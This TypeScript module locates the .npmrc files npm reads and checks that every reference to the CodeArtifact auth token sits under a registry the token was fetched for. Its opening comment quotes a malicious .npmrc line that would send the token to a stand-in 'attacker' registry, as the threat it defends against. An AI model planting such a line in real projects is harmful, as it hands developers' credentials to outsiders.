// Where `${CODEARTIFACT_AUTH_TOKEN}` is referenced in the .npmrc files npm will read, so `exec` exports
// that variable only when every reference sits under a registry it fetched the token for. A cloned
// repository controls its project .npmrc: `//attacker/:_authToken=${CODEARTIFACT_AUTH_TOKEN}` there
// would otherwise hand the token to the attacker on the next `npm install`.
import { homedir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { expandNpmEnv, parseNpmrc } from "./ini-text.js";
import { findProject, findUserNpmrc, type LocationOptions, npmEnvSetting } from "./npmrc-locations.js";
import { readConfigText } from "./private-file.js";

type Env = Readonly<Record<string, string | undefined>>;

/** The variable whose references this module finds. */
export const TOKEN_VARIABLE = "CODEARTIFACT_AUTH_TOKEN";

/** An .npmrc npm reads, and why it reads it. */
export interface NpmConfigFile {
  file: string;
  /** `project`: the project's .npmrc; `user`: the user config; `global`: the global config. */
  role: "project" | "user" | "global";
  /** What named it when not the default: `NPM_CONFIG_USERCONFIG`, or `FILE:LINE userconfig`. */
  via?: string;
}

/** Options of {@link npmConfigFiles} and {@link findTokenReferences}. */
export interface NpmConfigOptions extends LocationOptions {
  /** npm's default global prefix is two levels above node. @default process.execPath */
  execPath?: string;
}

function expandPath(value: string, home: string, cwd: string): string {
  if (value === "~") return home;
  if (value.startsWith("~/") || value.startsWith("~\\")) return join(home, value.slice(2));
  return resolve(cwd, value);
}

/** The last top-level `name=` of an .npmrc, `${VAR}` expanded, with its line. */
function settingIn(file: string, name: string, env: Env): { value: string; line: number } | undefined {
  const text = readConfigText(file, "npmrc");
  if (text === undefined) return undefined;
  let found: { value: string; line: number } | undefined;
  for (const entry of parseNpmrc(text)) {
    if (entry.section !== undefined || typeof entry.value !== "string") continue;
    if (expandNpmEnv(entry.key, env) === name)
      found = { value: expandNpmEnv(entry.value, env), line: entry.line };
  }
  return found;
}

/**
 * The .npmrc files npm reads from `cwd`, in its order: the project's, the user config
 * (`NPM_CONFIG_USERCONFIG`, else a `userconfig=` in the project .npmrc, else `~/.npmrc`), and the global
 * config (`NPM_CONFIG_GLOBALCONFIG`, else a `globalconfig=` in the project or user .npmrc, else
 * `PREFIX/etc/npmrc` with npm's prefix from `npm_config_prefix`, `PREFIX`, or two levels above node).
 * npm's own built-in npmrc (inside its install) is not listed. Files that do not exist are listed too.
 *
 * @throws {RcFileError} when a file that names another cannot be read.
 */
export function npmConfigFiles(cwd: string, options: NpmConfigOptions = {}): NpmConfigFile[] {
  const env = options.env ?? process.env;
  const home = options.home ?? homedir();
  const location = { env, home, cwd };
  const files: NpmConfigFile[] = [];
  const project = findProject(cwd, location).npmrc;
  if (project) files.push({ file: project, role: "project" });

  const userFromEnv = findUserNpmrc(location);
  const userFromProject =
    project && userFromEnv.source !== "env" ? settingIn(project, "userconfig", env) : undefined;
  const user = userFromProject
    ? {
        file: expandPath(userFromProject.value, home, cwd),
        via: `${project}:${userFromProject.line} userconfig`,
      }
    : { file: userFromEnv.path, ...(userFromEnv.envVar ? { via: userFromEnv.envVar } : {}) };
  if (!files.some((f) => f.file === user.file)) files.push({ ...user, role: "user" });

  const globalFromEnv = npmEnvSetting(env, "globalconfig");
  let global: Omit<NpmConfigFile, "role"> | undefined;
  if (globalFromEnv) {
    global = { file: expandPath(globalFromEnv.value, home, cwd), via: globalFromEnv.envVar };
  } else {
    for (const named of [project, user.file]) {
      const setting = named ? settingIn(named, "globalconfig", env) : undefined;
      if (named && setting) {
        global = { file: expandPath(setting.value, home, cwd), via: `${named}:${setting.line} globalconfig` };
        break;
      }
    }
  }
  if (!global) {
    const prefix =
      npmEnvSetting(env, "prefix")?.value ??
      env.PREFIX ??
      dirname(dirname(options.execPath ?? process.execPath));
    global = { file: join(expandPath(prefix, home, cwd), "etc", "npmrc") };
  }
  if (!files.some((f) => f.file === global.file)) files.push({ ...global, role: "global" });
  return files;
}

/** One place `${CODEARTIFACT_AUTH_TOKEN}` is referenced. */
export interface TokenReference {
  file: string;
  line: number;
  /** The setting as written (`//host/path/:_authToken`): other `${VAR}`s are not expanded, so no value shows. */
  key: string;
  /**
   * The registry the setting belongs to (`//host/path/`), or undefined when the reference is not in a
   * per-registry setting (a top-level setting, a URL, the key itself, an ini section).
   */
  nerfDart?: string;
}

/** Stands in for the token while expanding, so a reference shows wherever npm would put the value. */
const PROBE = "\u0000codeartifact-auth-token\u0000";

/**
 * Every `${CODEARTIFACT_AUTH_TOKEN}` (and `${CODEARTIFACT_AUTH_TOKEN?}`) reference npm would expand in
 * `files`, in keys and values alike, with the registry each one belongs to. A `\${…}` escape is no
 * reference, as for npm.
 *
 * @throws {RcFileError} when a file exists but cannot be read.
 */
export function findTokenReferences(
  files: readonly NpmConfigFile[],
  env: Env = process.env,
): TokenReference[] {
  const probeEnv = { ...env, [TOKEN_VARIABLE]: PROBE };
  const references: TokenReference[] = [];
  for (const { file } of files) {
    const text = readConfigText(file, "npmrc");
    if (text === undefined) continue;
    for (const entry of parseNpmrc(text)) {
      const key = expandNpmEnv(entry.key, probeEnv);
      const value = typeof entry.value === "string" ? expandNpmEnv(entry.value, probeEnv) : "";
      if (!key.includes(PROBE) && !value.includes(PROBE)) continue;
      const perRegistry = /^(\/\/[^\s]*\/):[^/:]+$/.exec(key);
      const nerfDart = entry.section === undefined && !key.includes(PROBE) ? perRegistry?.[1] : undefined;
      references.push({
        file,
        line: entry.line,
        key: entry.key,
        ...(nerfDart ? { nerfDart } : {}),
      });
    }
  }
  return references;
}

/**
 * The first reference that does not sit under one of `nerfDarts` (the registries a token was fetched
 * for: the setting's `//host/path/` is one of them or below one), or undefined when all do.
 */
export function strayTokenReference(
  references: readonly TokenReference[],
  nerfDarts: readonly string[],
): TokenReference | undefined {
  return references.find(
    (reference) => !reference.nerfDart || !nerfDarts.some((nerf) => reference.nerfDart?.startsWith(nerf)),
  );
}
